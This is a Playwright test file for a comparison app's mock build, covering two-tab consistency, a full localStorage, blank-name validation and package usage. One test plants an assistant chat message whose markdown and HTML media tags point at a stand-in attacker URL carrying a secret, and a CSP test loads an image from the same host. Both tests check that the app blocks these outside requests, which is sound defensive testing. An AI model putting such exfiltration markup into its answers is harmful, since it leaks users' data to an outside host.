// Issue 15 on the mock build: nothing confirmed is lost (two tabs, a full storage), bad data stays
// out (blank names, remote content in answers), package re-selection keeps usage. The stalled and
// cut-off backend journeys are in reliability-faults.spec.ts.
import { test as plainTest, type Page } from '@playwright/test';
import { test, expect, signIn, ACCOUNTS, SEED_PASSWORD } from './fixtures';

const DB_KEY = 'kiyasla.mockdb.v2';

async function runComparison(page: Page, query: string): Promise<string> {
  await page.goto('/app/compare');
  await page.getByLabel('What do you want to compare?').fill(query);
  await page.getByRole('button', { name: 'Compare', exact: true }).click();
  await page.waitForURL(/\/app\/compare\/cmp_/);
  await expect(page.getByRole('heading', { name: 'Comparison report' })).toBeVisible({ timeout: 15_000 });
  return page.url();
}

async function saveProfileName(page: Page, name: string): Promise<void> {
  await page.getByLabel('Full name').fill(name);
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByText('Profile updated successfully!')).toBeVisible();
}

/** Logout lives in the header's account menu. */
async function logOut(page: Page): Promise<void> {
  await page.getByRole('button', { name: /^Account menu/ }).click();
  await page.getByRole('menuitem', { name: 'Logout' }).click();
}

/** A second tab of the same browser profile (shares localStorage), without mock latency. */
async function secondTab(page: Page): Promise<Page> {
  const tab = await page.context().newPage();
  await tab.addInitScript(() => localStorage.setItem('kiyasla.mockLatency', 'none'));
  return tab;
}

/** Calls the API from the page, as any script of the app's origin could (MSW answers). */
async function api(
  page: Page,
  method: string,
  path: string,
  body: unknown,
): Promise<{ status: number; body: { data?: Record<string, unknown> } }> {
  return page.evaluate(
    async ({ method, path, body }) => {
      const token = localStorage.getItem('token') ?? sessionStorage.getItem('token');
      const response = await fetch(path, {
        method,
        headers: { 'Content-Type': 'application/json', 'Accept-Language': 'en', Authorization: `Bearer ${token}` },
        body: JSON.stringify(body),
      });
      return { status: response.status, body: await response.json() };
    },
    { method, path, body },
  );
}

test.describe('two tabs', () => {
  test('a comparison in tab A, then a profile save in tab B: both are kept', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium, { remember: true });
    const tabB = await secondTab(page);
    await tabB.goto('/app/profile');
    await expect(tabB.getByLabel('Full name')).toHaveValue('Premium User');

    const report = await runComparison(page, 'Tea vs Coffee');
    await saveProfileName(tabB, 'Saved In Tab B');

    await page.goto(report);
    await expect(page.getByRole('heading', { name: 'Comparison report' })).toBeVisible();
    await tabB.reload();
    await expect(tabB.getByLabel('Full name')).toHaveValue('Saved In Tab B');
  });

  test('a profile save in tab B, then a comparison in tab A: both are kept', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium, { remember: true });
    await page.goto('/app/compare');
    const tabB = await secondTab(page);
    await tabB.goto('/app/profile');
    await expect(tabB.getByLabel('Full name')).toHaveValue('Premium User');

    await saveProfileName(tabB, 'Saved First In B');
    const report = await runComparison(page, 'Milk vs Juice');

    await tabB.reload();
    await expect(tabB.getByLabel('Full name')).toHaveValue('Saved First In B');
    await tabB.goto(report);
    await expect(tabB.getByRole('heading', { name: 'Comparison report' })).toBeVisible();
  });

  test('signing out in one tab signs out the other', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium, { remember: true });
    const tabB = await secondTab(page);
    await tabB.goto('/app/compare');
    await expect(tabB.getByLabel('What do you want to compare?')).toBeVisible();
    await logOut(page);
    await expect(page).toHaveURL(/\/$/);
    await expect(tabB).toHaveURL(/\/$/);
  });

  test('without remember-me the stored user is kept for this tab only', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium);
    const stored = await page.evaluate(() => ({
      local: localStorage.getItem('user'),
      session: sessionStorage.getItem('user'),
    }));
    expect(stored.local).toBeNull();
    expect(JSON.parse(stored.session ?? '{}')).toMatchObject({ email: ACCOUNTS.premium });
  });
});

test.describe('a full browser storage', () => {
  /** Fills localStorage until not one more character fits. */
  async function fillStorage(page: Page): Promise<void> {
    await page.evaluate(() => {
      let size = 1 << 22;
      let index = 0;
      while (size >= 1) {
        try {
          localStorage.setItem(`filler-${index}`, 'x'.repeat(size));
          index += 1;
        } catch {
          size = Math.floor(size / 2);
        }
      }
    });
  }

  test('a write that cannot be saved says so, offers a reset, and nothing shown as saved is lost', async ({ page }) => {
    // Many full page loads, each reading a near-quota localStorage.
    test.slow();
    await signIn(page, ACCOUNTS.premium, { remember: true });
    const saved = await runComparison(page, 'Tea vs Coffee');
    await fillStorage(page);

    await page.goto('/app/compare');
    await page.getByLabel('What do you want to compare?').fill('Milk vs Juice');
    await page.getByRole('button', { name: 'Compare', exact: true }).click();
    await expect(page.getByText(/The demo storage of this browser is full, so nothing was saved/)).toBeVisible({
      timeout: 15_000,
    });
    await expect(page.getByText('The demo storage is full')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Reset demo data' })).toBeVisible();
    await expect(page).toHaveURL(/\/app\/compare$/);

    // After a reload: the saved report is there, the failed one never appears.
    await page.goto(saved);
    await expect(page.getByRole('heading', { name: 'Comparison report' })).toBeVisible();
    await page.goto('/app/compare_history');
    await expect(page.getByText('Tea vs Coffee').first()).toBeVisible({ timeout: 15_000 });
    await expect(page.getByText('Milk vs Juice')).toHaveCount(0);

    // Signing in with remember-me on a full storage says why it did not work, on the form.
    await logOut(page);
    await expect(page).toHaveURL(/\/$/);
    // Signing out freed a few bytes (the token, the session record): take them again.
    await fillStorage(page);
    await page.goto('/login');
    await page.getByLabel(/^Email/).fill(ACCOUNTS.premium);
    await page.getByLabel(/^Password$/).fill(SEED_PASSWORD);
    await page.getByLabel('Remember me').check();
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(
      page
        .getByRole('alert')
        .filter({ hasText: /The demo storage of this browser is full/ })
        .first(),
    ).toBeVisible();
    await expect(page).toHaveURL(/\/login/);

    // The offered way out works: the seed fits again and signing in succeeds.
    await page.getByRole('button', { name: 'Reset demo data' }).click();
    await expect(page).toHaveURL(/\/$/);
    await page.evaluate(() =>
      Object.keys(localStorage)
        .filter((key) => key.startsWith('filler-'))
        .forEach((key) => localStorage.removeItem(key)),
    );
    await signIn(page, ACCOUNTS.premium, { remember: true });
  });
});

test.describe('bad data stays out', () => {
  test('an assistant message with remote images and media makes no outside request', async ({ page }) => {
    await signIn(page, ACCOUNTS.premium);
    const leak = 'https://evil.example/leak';
    await page.evaluate(
      ({ key, leak }) => {
        const db = JSON.parse(localStorage.getItem(key) ?? '{}');
        const now = new Date().toISOString();
        db.conversations.usr_premium_0004.push({
          id: 'conv_planted',
          title: 'Planted',
          updatedAt: now,
          messages: [
            { id: 'msg_planted_1', role: 'user', content: 'Show me', createdAt: now },
            {
              id: 'msg_planted_2',
              role: 'assistant',
              createdAt: now,
              content: [
                'Here is **the chart**: ![the chart](' + leak + '.png?q=secret)',
                '<img src="' + leak + '-img.png"><img src="x" srcset="' + leak + '-srcset.png 2x">',
                '<picture><source srcset="' + leak + '-picture.png"><img src="' + leak + '-picture-img.png"></picture>',
                '<video poster="' +
                  leak +
                  '-poster.png" src="' +
                  leak +
                  '.mp4"></video><audio src="' +
                  leak +
                  '.mp3"></audio>',
                '<table background="' + leak + '-table.png"><tr><td>cell</td></tr></table>',
                'End of answer.',
              ].join('\n\n'),
            },
          ],
        });
        localStorage.setItem(key, JSON.stringify(db));
      },
      { key: DB_KEY, leak },
    );
    const outside: string[] = [];
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.hostname !== '127.0.0.1' && url.protocol !== 'data:') outside.push(request.url());
    });
    await page.goto('/app/chat?conversation=conv_planted');
    await expect(page.getByText('End of answer.')).toBeVisible();
    await expect(page.getByRole('link', { name: 'the chart' })).toHaveAttribute('href', `${leak}.png?q=secret`);
    await expect(page.getByRole('log').locator('img, video, audio, picture')).toHaveCount(0);
    expect(outside).toEqual([]);
  });

  test('a name of only spaces is refused and the account still signs in', async ({ page }) => {
    await signIn(page, ACCOUNTS.hobby);
    const answer = await api(page, 'PUT', '/api/users/me', { name: '   ', email: ACCOUNTS.hobby, language: 'en' });
    expect(answer.status).toBe(422);
    const register = await api(page, 'POST', '/api/register', {
      name: ' \t ',
      email: 'blank@example.com',
      password: 'secret1',
      language: 'en',
    });
    expect(register.status).toBe(422);
    await logOut(page);
    await expect(page).toHaveURL(/\/$/);
    await signIn(page, ACCOUNTS.hobby);
    await page.goto('/app/profile');
    await expect(page.getByLabel('Full name')).toHaveValue('Hobby User');
  });

  test("choosing the current package again keeps the month's usage", async ({ page }) => {
    await signIn(page, ACCOUNTS.free);
    const remaining = page
      .locator('.package-details__row')
      .filter({ hasText: /Remaining comparisons|Kalan karşılaştırma/ })
      .locator('dd');
    await page.goto('/app/package');
    await expect(remaining).toHaveText('3');
    const answer = await api(page, 'PUT', '/api/packages/me', { package_name: 'Level_1' });
    expect(answer.status).toBe(200);
    expect(answer.body.data).toMatchObject({ remaining_compares: 3, end_date: null });
    await page.reload();
    await expect(remaining).toHaveText('3');
  });

  // The plain Playwright test: its deliberate violation must not trip the fixture's CSP watch.
  plainTest('the built app carries the CSP, and it blocks an outside image', async ({ page }) => {
    await page.goto('/');
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toContain("img-src 'self' data:");
    expect(policy).toContain("connect-src 'self'");
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
            once: true,
          });
          const image = document.createElement('img');
          image.src = 'https://evil.example/probe.png';
          document.body.append(image);
        }),
    );
    expect(blocked).toBe('img-src');
  });
});
